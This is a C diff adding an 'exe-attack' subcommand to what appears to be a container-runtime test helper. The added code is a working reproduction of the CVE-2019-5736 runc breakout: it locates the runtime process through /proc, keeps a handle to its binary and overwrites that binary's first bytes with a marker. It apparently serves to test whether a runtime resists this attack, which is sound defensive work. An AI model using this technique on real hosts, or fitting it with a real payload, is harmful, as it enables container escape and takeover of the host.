@@ -415,6 +415,122 @@ static void do_sleep(const char *s)
 		;
 }
 
+/* the pid of a process with an argument equal to `arg`, other than us; 0 if none */
+static pid_t find_arg(const char *arg)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	pid_t found = 0;
+
+	if (!d)
+		return 0;
+	while (found == 0 && (de = readdir(d))) {
+		char path[64], buf[4096];
+		pid_t pid = (pid_t)atoi(de->d_name);
+		ssize_t n;
+		int fd;
+
+		if (pid <= 0 || pid == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		if (n <= 0)
+			continue;
+		buf[n] = '\0';
+		for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1) {
+			if (strcmp(buf + i, arg) == 0) {
+				found = pid;
+				break;
+			}
+		}
+	}
+	closedir(d);
+	return found;
+}
+
+/*
+ * exe-attack FIFO: CVE-2019-5736, the classic shape.  The container runs a
+ * script `#!/proc/self/exe --log=FIFO`: the kernel resolves the interpreter
+ * in the runtime's process, which (unprotected) runs the runtime's binary
+ * inside the container, blocked opening the FIFO for its log.  Find it (20 s
+ * at most), open its /proc/PID/exe (O_PATH), try to open that for writing
+ * directly (ETXTBSY while it runs), let it go (read the FIFO to its end),
+ * then reopen the O_PATH fd via /proc/self/fd/N for writing until no process
+ * runs the binary (20 s), and overwrite its first bytes.  Prints the pid
+ * and the exe link's target, "exe-attack: wrote N bytes" when the binary was written, "exe-attack:
+ * refused: <why>" when not, then "exe-attack: done".
+ */
+static void do_exe_attack(const char *fifo)
+{
+	static const char marker[] = "HUSK-CVE-2019-5736";
+	char arg[512], path[64];
+	pid_t pid = 0;
+	int fd, w, r;
+	char buf[4096];
+	ssize_t n;
+
+	snprintf(arg, sizeof(arg), "--log=%s", fifo);
+	for (int i = 0; i < 2000 && pid == 0; i++) {
+		pid = find_arg(arg);
+		if (pid == 0)
+			do_sleep("0.01");
+	}
+	if (pid == 0) {
+		errno = ESRCH;
+		fail("exe-attack", "no process with the argument");
+		return;
+	}
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0) {
+		fail("exe-attack", path);
+		return;
+	}
+	printf("exe-attack: pid %d\n", pid);
+	n = readlink(path, buf, sizeof(buf) - 1);
+	buf[n < 0 ? 0 : n] = '\0';
+	printf("exe-attack: exe %s\n", buf);
+	w = open(path, O_WRONLY | O_CLOEXEC);
+	printf("exe-attack: direct open for writing: %s\n", w < 0 ? strerror(errno) : "opened");
+	if (w >= 0)
+		close(w);
+	r = open(fifo, O_RDONLY | O_CLOEXEC);
+	if (r < 0) {
+		fail("exe-attack", fifo);
+		return;
+	}
+	while ((n = read(r, buf, sizeof(buf))) > 0 || (n < 0 && errno == EINTR))
+		;
+	close(r);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 2000; i++) {
+		w = open(path, O_WRONLY | O_CLOEXEC);
+		if (w >= 0 || errno != ETXTBSY)
+			break;
+		do_sleep("0.01");
+	}
+	if (w < 0 && errno == ETXTBSY) {
+		fail("exe-attack", "still busy after 20 s");
+		return;
+	}
+	if (w < 0) {
+		printf("exe-attack: refused: open: %s\n", strerror(errno));
+	} else {
+		n = pwrite(w, marker, sizeof(marker) - 1, 0);
+		if (n < 0)
+			printf("exe-attack: refused: write: %s\n", strerror(errno));
+		else
+			printf("exe-attack: wrote %zd bytes\n", n);
+		close(w);
+	}
+	close(fd);
+	printf("exe-attack: done\n");
+}
+
 /* wait for a signal; print it; used to check signal delivery by `kill` */
 static void do_trap(void)
 {
@@ -439,7 +555,8 @@ static void usage(void)
 	      "  affinity nnp ns pid clock listen seccomp trap pause\n"
 	      "  stat PATH  open PATH  write PATH  append PATH  cat PATH  ls DIR  rlimit NAME\n"
 	      "  sysctl KEY  status PREFIX  echo TEXT  getenv NAME  fdwrite FD TEXT\n"
-	      "  sleep SECONDS  exit N  kill-self SIG  socket unix|inet|inet6  mkdir PATH\n",
+	      "  sleep SECONDS  exit N  kill-self SIG  socket unix|inet|inet6  mkdir PATH\n"
+	      "  exe-attack FIFO\n",
 	      stderr);
 }
 
@@ -601,6 +718,9 @@ int main(int argc, char **argv)
 				printf("socket: %s ok\n", a1);
 				close(fd);
 			}
+		} else if (!strcmp(c, "exe-attack")) {
+			NEED(1);
+			do_exe_attack(a1);
 		} else if (!strcmp(c, "mkdir")) {
 			NEED(1);
 			if (mkdir(a1, 0755) < 0)
